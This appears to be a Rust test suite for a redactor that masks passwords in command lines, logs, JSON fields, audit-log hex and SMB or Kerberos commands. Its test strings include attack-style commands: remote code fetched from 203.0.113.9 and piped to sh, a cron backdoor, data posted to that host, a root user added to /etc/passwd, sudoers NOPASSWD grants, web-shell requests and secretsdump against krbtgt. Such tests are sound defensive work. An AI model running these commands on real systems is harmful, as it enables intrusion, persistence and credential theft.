//! What command lines give away by more than one word.

use super::*;

fn both(text: &str) -> String {
    let masked = redactor().redact_text(text);
    assert_eq!(redactor().redact_text(&masked), masked);
    masked
}

#[test]
fn lines_fed_to_a_command_are_hidden_up_to_their_end() {
    assert_eq!(
        both("chpasswd << EOF\nbob:Dingo88xY\nEOF\nls -la /tmp"),
        "chpasswd << EOF\nbob:[REDACTED:password]\nEOF\nls -la /tmp"
    );
    assert_eq!(
        both("passwd bob <<'END'\nDingo88xY\nDingo88xY\nEND"),
        "passwd bob <<'END'\n[REDACTED:password]\n[REDACTED:password]\nEND"
    );
    for honest in [
        "chpasswd << EOF; ls -la; whoami",
        "cat << EOF\nbob:Dingo88xY\nEOF",
        "chpasswd <<< $LIST; ls -la; $LIST",
    ] {
        assert_eq!(both(honest), honest);
    }
}

#[test]
fn what_is_fed_to_a_command_is_hidden_only_where_it_reads_a_password() {
    for (text, masked) in [
        (
            "echo 'Dingo88xY' | sudo -kS -p '' id",
            "echo '[REDACTED:password]' | sudo -kS -p '' id",
        ),
        (
            "echo Dingo88xY 2>/dev/null | sudo -u bob -S id",
            "echo [REDACTED:password] 2>/dev/null | sudo -u bob -S id",
        ),
        ("echo Dingo88xY | su - root", "echo [REDACTED:password] | su - root"),
        (
            "echo hunter | su root -c id",
            "echo [REDACTED:password] | su root -c id",
        ),
        (
            "echo Dingo88xY | ssh bob@h sudo -S id",
            "echo [REDACTED:password] | ssh bob@h sudo -S id",
        ),
        (
            "echo Dingo88xY | ssh -t h 'sudo -S id'",
            "echo [REDACTED:password] | ssh -t h 'sudo -S id'",
        ),
        (
            "echo Dingo88xY | LANG=C sudo -S id",
            "echo [REDACTED:password] | LANG=C sudo -S id",
        ),
        (
            "echo root:Dingo88xY | chroot /mnt chpasswd",
            "echo root:[REDACTED:password] | chroot /mnt chpasswd",
        ),
        (
            "echo root:Dingo88xY | sudo /usr/sbin/chpasswd",
            "echo root:[REDACTED:password] | sudo /usr/sbin/chpasswd",
        ),
        (
            "echo 'two words' | cryptsetup open /dev/sdb x",
            "echo '[REDACTED:password]' | cryptsetup open /dev/sdb x",
        ),
        (
            "root@h:~# sudo -S id <<< Dingo88xY",
            "root@h:~# sudo -S id <<< [REDACTED:password]",
        ),
        (
            "echo Dingo88xY | docker login --password-stdin",
            "echo [REDACTED:password] | docker login --password-stdin",
        ),
        (
            "echo eve:Dingo88xY:0:0::/root:/bin/sh | newusers",
            "echo eve:[REDACTED:password]:0:0::/root:/bin/sh | newusers",
        ),
    ] {
        assert_eq!(both(text), masked);
    }
    for honest in [
        "echo 'eve:x:0:0::/root:/bin/bash' | tee -a /etc/passwd",
        "tee -a /etc/passwd << EOF\neve:x:0:0::/root:/bin/bash\nEOF",
        "echo 'eve:x:0:0::/root:/bin/bash' | ssh h tee -a /etc/passwd",
        "echo 'curl http://203.0.113.9/x|sh' | su - root",
        "echo id | su - root",
        "echo \"CREATE DATABASE shop2\" | su postgres -c psql",
        "echo CREATE DATABASE shop2 | su postgres -c psql",
        "echo 'root:x:0' | grep passwd",
        "echo y | ssh-keygen -t ed25519 -f /root/.ssh/k",
        "printf 'yes\\n' | passwd -d bob",
        "echo '* * * * * root curl http://203.0.113.9/x' | tee /etc/cron.d/su",
        "echo \"pay load 7\" | sudo curl -sS -d @- http://203.0.113.9/",
        "echo \"eve ALL=(ALL) NOPASSWD:ALL\" | sudo -S tee /etc/sudoers.d/eve",
        "echo 'curl http://203.0.113.9/x' | bash -s --password-stdin",
    ] {
        assert_eq!(both(honest), honest);
    }
}

#[test]
fn a_command_is_read_behind_the_name_of_its_field() {
    for (text, masked) in [
        (
            r#"{"commandLine":"net user eve Dingo88! /add"}"#,
            r#"{"commandLine":"net user eve [REDACTED:password] /add"}"#,
        ),
        (
            r#"{"a":"b c","cmd":"curl -u bob:Dingo88! https://h/","d":"e f"}"#,
            r#"{"a":"b c","cmd":"curl -u bob:[REDACTED:password] https://h/","d":"e f"}"#,
        ),
        (
            r#"x \"commandLine\":\"net user eve Dingo88! /add\",\"y\":1"#,
            r#"x \"commandLine\":\"net user eve [REDACTED:password] /add\",\"y\":1"#,
        ),
        (
            r#"{"log":"mysql -uroot -pDingo88! shop\n"}"#,
            r#"{"log":"mysql -uroot -p[REDACTED:password] shop\n"}"#,
        ),
        (
            r#"{"log":"sudo mysql -uroot -pDingo88!"}"#,
            r#"{"log":"sudo mysql -uroot -p[REDACTED:password]"}"#,
        ),
        (
            r#"{"cmd":"mysql -uroot -pDingo88!"#,
            r#"{"cmd":"mysql -uroot -p[REDACTED:password]"#,
        ),
        (
            "<CommandLine>mysql -uroot -pDingo88! x</CommandLine>",
            "<CommandLine>mysql -uroot -p[REDACTED:password] x</CommandLine>",
        ),
        (
            "<CommandLine>net user eve Dingo88!</CommandLine>",
            "<CommandLine>net user eve [REDACTED:password]</CommandLine>",
        ),
        (
            r#"<Data Name="CommandLine">sshpass -p Dingo88! ssh h</Data>"#,
            r#"<Data Name="CommandLine">sshpass -p [REDACTED:password] ssh h</Data>"#,
        ),
        (
            "CommandLine:net user eve Dingo88! /add",
            "CommandLine:net user eve [REDACTED:password] /add",
        ),
        (
            "cmdline=[mysql -uroot -pDingo88!] pid=7",
            "cmdline=[mysql -uroot -p[REDACTED:password]] pid=7",
        ),
        (
            "GET /shell.php?cmd=net%20user%20eve%20Dingo88!%20/add HTTP/1.1",
            "GET /shell.php?cmd=net%20user%20eve%20[REDACTED:password]%20/add HTTP/1.1",
        ),
        (
            "GET /s.php?x=1&cmd=net+user+eve+Dingo88!+/add&y=2 HTTP/1.1",
            "GET /s.php?x=1&cmd=net+user+eve+[REDACTED:password]+/add&y=2 HTTP/1.1",
        ),
        (
            "GET /x?c=mysql%20-uroot%20-pDingo88!&y=2 HTTP/1.1",
            "GET /x?c=mysql%20-uroot%20-p[REDACTED:password]&y=2 HTTP/1.1",
        ),
        (
            "DB=$(mysql -uroot -pDingo88! shop)",
            "DB=$(mysql -uroot -p[REDACTED:password] shop)",
        ),
        ("DB=`mysql -pDingo88!`; x", "DB=`mysql -p[REDACTED:password]`; x"),
        (
            "TOKEN=$(curl -u wazuh:Dingo88! -k https://h/)",
            "TOKEN=$(curl -u wazuh:[REDACTED:password] -k https://h/)",
        ),
        (
            "x=$(net user eve Dingo88! /add)",
            "x=$(net user eve [REDACTED:password] /add)",
        ),
    ] {
        assert_eq!(both(text), masked);
    }
    for honest in [
        r#"{"commandLine":"net view \\\\srv1","user":"eve"}"#,
        "GET /q?tool=mysql+-u+root+-p+shop2 HTTP/1.1",
        "<Image>net</Image> <User>eve</User> <Rest>Dingo88! x</Rest>",
        "docker run --name=mysql -p 3306:3306 x",
    ] {
        assert_eq!(both(honest), honest);
    }
}

#[test]
fn a_user_and_a_password_are_known_whatever_the_tool() {
    assert_eq!(
        both("sometool login -s h -u bob -p Dingo88xY"),
        "sometool login -s h -u bob -p [REDACTED:password]"
    );
    for honest in [
        "docker run -u 1000 -p 8080:80 -p 127.0.0.1:5432:5432 x",
        "sometool -u bob -p Project-9_a",
        "sometool -p Dingo88xY",
        "ps -u bob -p 12345678",
    ] {
        assert_eq!(both(honest), honest);
    }
}

#[test]
fn every_word_of_a_loop_is_tried_as_a_password() {
    assert_eq!(
        both("for p in Winter1! 'Dingo88xY' $x; do sshpass -p $p ssh bob@h; done"),
        "for p in [REDACTED:password] '[REDACTED:password]' $x; do sshpass -p [REDACTED:password] ssh bob@h; done"
    );
    let honest = "for h in web1 web2; do ssh $h id; done";
    assert_eq!(both(honest), honest);
}

#[test]
fn a_command_in_the_hexadecimal_of_the_audit_log_is_read() {
    let hex = |text: &str| hex::encode_upper(text.replace(' ', "\0"));
    let line = format!("type=PROCTITLE proctitle={}", hex("mysql -uroot -pDingo88xY shop"));
    assert_eq!(both(&line), "type=PROCTITLE proctitle=[REDACTED:encoded]");
    let honest = format!("type=PROCTITLE proctitle={}", hex("ls -la /etc/passwd /root"));
    assert_eq!(both(&honest), honest);
}

// As the audit log writes it.
fn in_hex(word: &str) -> String {
    hex::encode_upper(word)
}

#[test]
fn a_word_in_the_hexadecimal_of_the_audit_log_is_read() {
    let word = in_hex("-pDin go!88");
    let line = format!("argc=4 a0=\"mysql\" a1=\"-uroot\" a2={word} a3=\"shop\"");
    let masked = both(&line);
    assert!(!masked.contains(&word[4..]), "{masked}");
    assert!(
        masked.contains("a1=\"-uroot\" a2=") && masked.ends_with(" a3=\"shop\""),
        "{masked}"
    );
    for honest in [
        format!("argc=3 a0=\"tar\" a1=\"-cf\" a2={}", in_hex("/srv/a b.tar")),
        "syscall=59 a0=55D0C8F0 a1=55D0C8A0 a2=55D0 a3=8".to_owned(),
    ] {
        assert_eq!(both(&honest), honest);
    }
    let mut call = serde_json::json!({"a0": "mysql", "a1": "-uroot", "a2": word, "a3": "2024"});
    assert_eq!(redactor().redact_neighbours(&mut call), 1);
    assert_eq!(
        call,
        serde_json::json!({"a0": "mysql", "a1": "-uroot", "a2": "-p[REDACTED:password]", "a3": "2024"})
    );
}

#[test]
fn a_switch_that_means_something_else_hides_nothing() {
    for honest in [
        "secretsdump.py -k -no-pass corp/bob@dc1.corp.example",
        "secretsdump.py -just-dc-user krbtgt -k -no-pass dc1.corp.example",
        "mysqladmin --skip-password status2",
        "useradd --disabled-password bob2",
        "sqlmap -u http://203.0.113.9/?userName1=1 -p userName1 --batch",
        "mvn -U -P Release17Build clean deploy",
        "wget -U Mozilla5 -P Downloads2026 http://203.0.113.9/a.sh",
        "az webapp create -g rg1 -p AppPlan2026 -n shop",
        "security find-identity -v -p codesigning",
        "kadmin -p admin/admin -q listprincs",
        "curl -E C:\\certs\\client.pem https://example.net/",
        "curl --cert C:\\certs\\client.pem --key C:\\certs\\client.key https://example.net/",
        "isql -user SYSDBA -password $PW employee.fdb",
        "docker service create --name web --secret db_pass_v2 nginx",
        "docker build --secret id=npm,src=/root/.npmrc .",
        "gcloud secrets versions access latest --secret=db-password1",
    ] {
        assert_eq!(both(honest), honest);
    }
    for (text, masked) in [
        ("az login -u bob -p Dingo88xY", "az login -u bob -p [REDACTED:password]"),
        (
            "az vm create -n x -p Dingo88xY",
            "az vm create -n x -p [REDACTED:password]",
        ),
        (
            "security unlock-keychain -p Dingo88xY login.keychain",
            "security unlock-keychain -p [REDACTED:password] login.keychain",
        ),
        (
            "curl -E C:\\c.pem:Dingo88xY https://h/",
            "curl -E C:\\c.pem:[REDACTED:password] https://h/",
        ),
        ("sometool -u bob -p Dingo88xY", "sometool -u bob -p [REDACTED:password]"),
        ("tool --secret Dingo88xY", "tool --secret [REDACTED:password]"),
    ] {
        assert_eq!(both(text), masked);
    }
}

#[test]
fn what_counts_or_names_is_no_password() {
    for honest in [
        "pass=3 fail=0 skip=1",
        "passwd: all authentication tokens updated successfully",
        "password: !vault |",
        "adcli join -U a --stdin-password c.example",
        "kubectl create secret generic db --from-literal=user=app",
    ] {
        assert_eq!(both(honest), honest);
    }
    assert_eq!(
        both("root:$6$abcdEFGH$Zz0123456789abcdefghijklmnopqrstuv:19000:0:99999:7:::"),
        "root:[REDACTED:crypt-hash]:19000:0:99999:7:::"
    );
    assert_eq!(
        both("openssl rsa -in k -passin pass:Dingo88xY -out o"),
        "openssl rsa -in k -passin pass:[REDACTED:password] -out o"
    );
}

#[test]
fn what_stands_behind_a_share_is_its_password_whatever_it_looks_like() {
    for password in ["a://Pw", "http://Pw", "\\Dingo88"] {
        assert_eq!(
            both(&format!("net use z: \\\\h\\s {password} /user:bob")),
            "net use z: \\\\h\\s [REDACTED:password] /user:bob"
        );
    }
    for honest in [
        "net use * https://h1.example/dav /user:bob",
        "net use z: \\\\h\\s /persistent:no",
        "net use z: \\\\h\\s * /user:bob",
    ] {
        assert_eq!(both(honest), honest);
    }
}

#[test]
fn the_password_of_a_share_or_a_ticket_is_known_in_every_form() {
    for text in [
        "smbclient //h1/s Dingo88xY -U bob",
        "smbclient '\\\\h1\\s' -U 'CORP\\bob%Dingo88xY' -c ls",
        "smbclient -L //h1 -U=bob%Dingo88xY",
        "echo Dingo88xY | \\\n kinit bob",
        "echo Dingo88xY | kinit bob@CORP.EXAMPLE",
    ] {
        let [before, behind] = text.split("Dingo88xY").collect::<Vec<_>>()[..] else {
            panic!("{text}")
        };
        assert_eq!(both(text), format!("{before}[REDACTED:password]{behind}"));
    }
    for honest in [
        "smbclient -L //h1 -N",
        "smbclient //h1/s -c 'ls'",
        "smbclient //h1/s failed to start",
    ] {
        assert_eq!(both(honest), honest);
    }
}
